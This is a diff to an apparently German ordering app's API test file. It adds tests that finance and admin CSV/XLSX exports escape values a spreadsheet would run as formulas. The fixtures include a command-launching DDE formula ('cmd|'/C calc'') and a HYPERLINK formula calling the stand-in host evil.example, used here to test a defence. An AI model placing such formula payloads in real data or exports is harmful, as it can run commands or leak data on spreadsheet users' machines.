@@ -6,11 +6,14 @@ import { testDatabases } from "../../../../tests/setup/test-database.ts";
 import { auditLog } from "../../../db/schema/back-office.ts";
 import { branches, dealers } from "../../../db/schema/market.ts";
 import { orders, orderStations } from "../../../db/schema/orders.ts";
+import { users } from "../../../db/schema/accounts.ts";
 import { clientAddress, createCustomer, logIn } from "../account/account.test-helpers.ts";
+import { address, baseConfig, withPayment } from "../orders/orders.test-helpers.ts";
 
 /** Issue 14 "Exports" (decision 0031): finance's order export and the admin's data export over the API. */
 describe.each(testDatabases())("exports API on $name (decision 0031 Exports)", (kind) => {
-  const ctx = withTestApp(kind, { RATE_LIMIT_PER_MINUTE: "100000" });
+  // No mail server: the order mails of the checkout below stay queued.
+  const ctx = withTestApp(kind, { RATE_LIMIT_PER_MINUTE: "100000", SMTP_URL: "smtp://127.0.0.1:9" });
   type Caller = { id: number; token: string };
   const who = {} as Record<"finance" | "finance2" | "admin" | "support" | "customer", Caller>;
   let dealerName = "";
@@ -146,5 +149,76 @@ describe.each(testDatabases())("exports API on $name (decision 0031 Exports)", (
     const [row] = await ctx.database.db.select().from(auditLog).where(and(eq(auditLog.actorUserId, who.finance2.id), eq(auditLog.action, "export.download")));
     expect(row).toMatchObject({ targetKind: "export", targetId: "orders", after: { From: "2024-03-01", To: "2024-03-31", Format: "xlsx", Rows: 3, Columns: ["orderNumber"] } });
     expect(row.requestId).toBeTruthy();
+  });
+
+  describe("values a spreadsheet would run as formulas (decision 0038)", () => {
+    const CITY = "@SUM(1+1)*cmd|'/C calc'!A0";
+    const PHONE = "+49-89-1234";
+    const LAST_NAME = '=HYPERLINK("http://evil.example/?x","Klick")';
+    const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
+    // Around today in any time zone: the exports count Berlin days.
+    const AROUND_TODAY = `from=${day(-1)}&to=${day(1)}`;
+    const who2 = {} as { userId: number; orderNumber: string };
+
+    beforeAll(async () => {
+      // A registration with a phone number that starts with "+", and a checkout to a city that starts with "@".
+      const email = `formel-${Math.random().toString(36).slice(2, 9)}@example.com`;
+      const registered = await ctx.app.inject({
+        method: "POST",
+        url: "/api/account/registrieren",
+        headers: { "x-forwarded-for": clientAddress() },
+        payload: { Email: email, Password: "Mein-Heizoel-2024", Title1: "Frau", Title2: "", FirstName: "Eva", LastName: "Formel", Phone: PHONE, CountryId: 1 },
+      });
+      expect(registered.statusCode, registered.body).toBe(200);
+      const headers = { authorization: `Bearer ${registered.json().token}`, "x-forwarded-for": clientAddress() };
+      const post = async (url: string, payload: object) => {
+        const res = await ctx.app.inject({ method: "POST", url, payload, headers });
+        expect(res.statusCode, `${url}: ${res.body}`).toBeLessThan(300);
+        return res.json();
+      };
+      const config = baseConfig({ Parameters: withPayment(2) });
+      const offer = (await post("/api/kalkulation/berechnen", config)).Items[0];
+      const checkout = await post("/api/order-process/checkout/start", { ...config, DealerId: offer.DealerId, BranchId: offer.Id });
+      const saved = await post("/api/order-process/address/save", { CheckoutId: checkout.CheckoutId, DeliveryAddress: address({ FirstName: "Eva", LastName: "Formel", City: CITY }) });
+      await post("/api/order-process/payment/save", { CheckoutId: checkout.CheckoutId, PaymentId: saved.PaymentData.PaymentId, IsRatenkaufPayment: saved.IsRatenkaufPayment, PaymentModifier: saved.PaymentData.PaymentModifier });
+      const placed = await post("/api/order-process/order/place", { CheckoutId: checkout.CheckoutId, IdempotencyKey: `formel-${Date.now()}`, ExpectedTotalPrice: offer.TotalPrice, Comment: "" });
+      const [row] = await ctx.database.db.select({ id: users.id }).from(users).where(eq(users.email, email));
+      Object.assign(who2, { userId: row.id, orderNumber: placed.OrderNumber });
+      // A last name as accounts written before the one name rule may hold it (registration refuses it now).
+      await ctx.database.db.update(users).set({ lastName: LAST_NAME }).where(eq(users.id, row.id));
+    });
+
+    const lineOf = (body: string, start: string) => body.split("\r\n").find((l) => l.startsWith(start));
+
+    it("finance's order CSV writes the delivery city with a leading apostrophe", async () => {
+      const res = await call(who.finance, "GET", `/api/export-orders?${AROUND_TODAY}&format=csv&columns=orderNumber,amount,city`);
+      expect(res.statusCode).toBe(200);
+      expect(lineOf(res.body, who2.orderNumber)).toBe(`${who2.orderNumber};3000;'${CITY}`);
+    });
+
+    it("the admin's user CSV writes phone and last name with a leading apostrophe, quoted where needed", async () => {
+      const res = await call(who.admin, "GET", `/api/support/data-export?dataset=users&${AROUND_TODAY}`);
+      expect(res.statusCode).toBe(200);
+      const cells = lineOf(res.body, `${who2.userId};`)!.split(";");
+      expect(cells.slice(3, 6)).toEqual(["Eva", `"'=HYPERLINK(""http://evil.example/?x"",""Klick"")"`, `'${PHONE}`]);
+    });
+
+    it("the XLSX files keep them as text cells, never formulas", async () => {
+      const read = async (url: string, caller: Caller) => {
+        const res = await call(caller, "GET", url);
+        expect(res.statusCode).toBe(200);
+        const wb = new ExcelJS.Workbook();
+        await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
+        return wb.worksheets[0];
+      };
+      const ordersSheet = await read(`/api/export-orders?${AROUND_TODAY}&format=xlsx&columns=orderNumber,city`, who.finance);
+      const orderRow = ordersSheet.getRows(2, ordersSheet.rowCount - 1)!.find((r) => r.getCell(1).value === who2.orderNumber)!;
+      expect(orderRow.getCell(2).value).toBe(CITY);
+      expect(orderRow.getCell(2).type).toBe(ExcelJS.ValueType.String);
+      const usersSheet = await read(`/api/support/data-export?dataset=users&${AROUND_TODAY}&format=xlsx`, who.admin);
+      const userRow = usersSheet.getRows(2, usersSheet.rowCount - 1)!.find((r) => r.getCell(1).value === who2.userId)!;
+      expect([userRow.getCell(5).value, userRow.getCell(6).value]).toEqual([LAST_NAME, PHONE]);
+      expect([userRow.getCell(5).type, userRow.getCell(6).type]).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
+    });
   });
 });
